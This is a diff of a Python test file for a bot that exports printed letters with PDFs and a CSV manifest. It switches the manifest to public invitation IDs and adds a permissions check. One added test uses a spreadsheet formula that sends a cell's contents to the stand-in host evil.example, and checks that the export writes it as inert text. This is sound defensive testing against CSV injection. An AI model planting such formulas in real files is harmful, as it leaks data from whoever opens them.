@@ -50,6 +50,7 @@ from bot.print_batch import (
 from bot.services import Services
 from bot.types import Channel
 from tests.bot.test_cli import lotse
+from tests.bot.test_debug_log import readable_by_others
 from tests.conftest import SECRET, STRICT, Clock
 
 NAMES = {"ar": "فاطمة الأحمد", "ti": "ተስፋይ ገብረሚካኤል", "de": "Anna Schmidt", "ru": "Ольга Иванова"}
@@ -133,22 +134,22 @@ async def test_export_writes_letters_merged_pdf_and_manifest_and_marks_them(
     raw = (folder / "manifest.csv").read_bytes()
     assert raw.startswith(b"\xef\xbb\xbf")
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
-    assert rows[0] == ["letter_id", "invitation_reference", "pages"]
+    assert rows[0] == ["invitation", "reference", "letter", "pages"]
     letters = await letters_by_id(services)
-    by_invitation = {row.invitation_id: row.id for row in letters.values()}
     expected = [
-        [str(by_invitation[inv.id]), inv.reference, "1" if inv.language == "de" else "2"]
+        [inv.public_id, inv.reference, "invitation", "1" if inv.language == "de" else "2"]
         for inv in invitations
     ]
     assert rows[1:] == expected
     assert pages_of((folder / f"{batch.batch_id}.pdf").read_bytes()) == 5 == batch.pages
-    for inv, (letter_id, _, pages) in zip(invitations, expected, strict=True):
-        pdf = (folder / f"letter-{letter_id}.pdf").read_bytes()
+    for inv, (public_id, _, _, pages) in zip(invitations, expected, strict=True):
+        pdf = (folder / f"letter-{public_id}.pdf").read_bytes()
         assert pages_of(pdf) == int(pages)
         assert display_code(inv.code) in text_of(pdf)
+    german = next(inv.id for inv in invitations if inv.language == "de")
     for row in letters.values():
         assert (row.status, row.batch, row.printed_at) == ("printed", batch.batch_id, clock())
-        assert row.pages == (1 if row.id == int(expected[2][0]) else 2)
+        assert row.pages == (1 if row.invitation_id == german else 2)
 
     async with services.sessionmaker() as session:
         for inv in invitations:
@@ -229,6 +230,22 @@ async def test_a_letter_cancelled_while_rendering_is_left_out_of_the_files(
     assert events == 0
 
 
+async def test_a_reference_that_a_spreadsheet_would_run_is_written_as_text(
+    services: Services, clock: Clock, tmp_path: Path
+) -> None:
+    office = await make_office(services)
+    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+    invitation = await invite(services, clock, office, "de", hostile)
+
+    batch = await export_pending(services, office_id=None, now=clock())
+
+    assert batch is not None
+    write_batch(batch, tmp_path)
+    raw = (tmp_path / batch.batch_id / "manifest.csv").read_bytes().decode("utf-8-sig")
+    rows = list(csv.reader(io.StringIO(raw), delimiter=";"))
+    assert rows[1] == [invitation.public_id, "'" + hostile, "invitation", "1"]
+
+
 async def test_office_filter_and_office_download(services: Services, clock: Clock) -> None:
     mitte = await make_office(services, "mitte")
     pankow = await make_office(services, "pankow")
@@ -240,13 +257,12 @@ async def test_office_filter_and_office_download(services: Services, clock: Cloc
     batch_id = name.removesuffix(".zip")
     with zipfile.ZipFile(io.BytesIO(archive)) as files:
         letters = await letters_by_id(services)
-        ours_letter = next(r.id for r in letters.values() if r.invitation_id == ours.id)
         assert sorted(files.namelist()) == sorted(
-            [f"{batch_id}/letter-{ours_letter}.pdf", f"{batch_id}/{batch_id}.pdf",
+            [f"{batch_id}/letter-{ours.public_id}.pdf", f"{batch_id}/{batch_id}.pdf",
              f"{batch_id}/manifest.csv"]
         )  # fmt: skip
         manifest = files.read(f"{batch_id}/manifest.csv").decode("utf-8-sig")
-    assert manifest.splitlines()[1] == f"{ours_letter};M-1;1"
+    assert manifest.splitlines()[1] == f"{ours.public_id};M-1;invitation;1"
     theirs_letter = next(r for r in letters.values() if r.invitation_id == theirs.id)
     assert theirs_letter.status == LetterStatus.PENDING.value
     with pytest.raises(NothingToPrint):
@@ -321,6 +337,7 @@ async def test_cli_exports_then_finds_nothing(
     (folder,) = out.iterdir()
     assert done.stdout.strip() == f"{folder}: 2 letters, 3 pages"
     assert len(list(folder.glob("letter-*.pdf"))) == 2
+    assert readable_by_others(out) == []  # names and addresses: Lotse's account only
     again = await asyncio.to_thread(
         lotse, "letters", "export", "--out", str(out), cwd=tmp_path, env=env
     )
@@ -346,8 +363,7 @@ async def test_a_batch_is_written_again_by_its_id_as_far_as_still_open(
 
     assert again.batch_id == first.batch_id
     assert [(item.reference, item.pages) for item in again.letters] == [("KEPT", 2)]
-    gone_letter = next(r.id for r in before.values() if r.invitation_id == gone.id)
-    assert again.unavailable == (gone_letter,)
+    assert again.unavailable == (gone.public_id,)
     assert display_code(kept.code) in text_of(again.merged_pdf)
     assert pages_of(again.merged_pdf) == 2
     after = await letters_by_id(services)  # statuses, batch and times untouched
